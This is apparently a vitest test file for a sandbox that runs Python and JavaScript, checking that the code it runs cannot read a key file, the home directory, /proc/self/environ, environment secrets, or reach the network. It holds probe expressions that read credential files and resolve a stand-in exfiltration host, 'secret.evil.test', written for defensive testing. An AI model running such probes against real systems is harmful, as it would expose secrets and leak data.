import { describe, expect, test } from "vitest";
import { openApp } from "../../src/app.ts";
import { newId } from "../../src/core/id.ts";
import type { JsonObject } from "../../src/core/json.ts";
import { toGrant } from "../../src/run.ts";
import { valueOf } from "../support/door.ts";
import { tempHomeWithPython } from "../support/python.ts";

/** Python that tries each expression and answers what came of it; null stands for a failure. */
const tried = (...expressions: readonly string[]): string => `
import os, socket
def attempt(act):
    try: return act()
    except BaseException: return None
[${expressions.map((expression) => `attempt(lambda: ${expression})`).join(", ")}]`;

describe("code in the sandbox, under the operator's grant", () => {
  test("sees no environment, no process, no home and no other run (B12)", async () => {
    await using home = await tempHomeWithPython();
    await using app = await openApp({ home: home.path });
    const ask = (args: JsonObject) => run(app, args);
    const key = JSON.stringify(`${home.path}/key.json`);
    process.env["CAPSTAN_TEST_SECRET"] = "secret";
    const python = tried(
      `open(${key}).read()`,
      `os.listdir(${JSON.stringify(home.path)})`,
      'open("/proc/self/environ").read()',
      'os.listdir("/proc")',
      'os.environ.get("CAPSTAN_TEST_SECRET", "none")',
      "1 + 1",
    );
    const seen = [null, null, null, ["self"], "none", 2];
    expect(await ask({ language: "python", code: python })).toMatchObject({ result: seen });
    const javascript = `
      const attempt = (act) => { try { return act(); } catch { return "refused"; } };
      [typeof process, typeof require, typeof fetch, attempt(() => files.read(${key})), 1 + 1]`;
    expect(await ask({ language: "javascript", code: javascript })).toMatchObject({
      result: ["undefined", "undefined", "undefined", "refused", 2],
    });
  });

  test("sends no name out to be resolved (B11)", async () => {
    await using home = await tempHomeWithPython();
    await using app = await openApp({ home: home.path });
    const name = 'socket.gethostbyname("secret.evil.test")';
    const connect = 'socket.create_connection(("127.0.0.1", 9), 1)';
    // No server answers for .test: the address is one that Python in WASM makes up within itself.
    expect(await run(app, { language: "python", code: tried(name, connect, "1 + 1") })).toMatchObject({
      result: [expect.stringMatching(/^172\.29\./), null, 2],
    });
  });
});

async function run(app: Awaited<ReturnType<typeof openApp>>, args: JsonObject): Promise<unknown> {
  const { principal, scope } = app;
  const caller = { principal, scope, grant: toGrant(app), taint: [], depth: 0 };
  const { signal } = new AbortController();
  const { outcome } = await app.door.call({ caller, name: "execute_code", args, callId: newId("call"), signal });
  return valueOf(outcome);
}
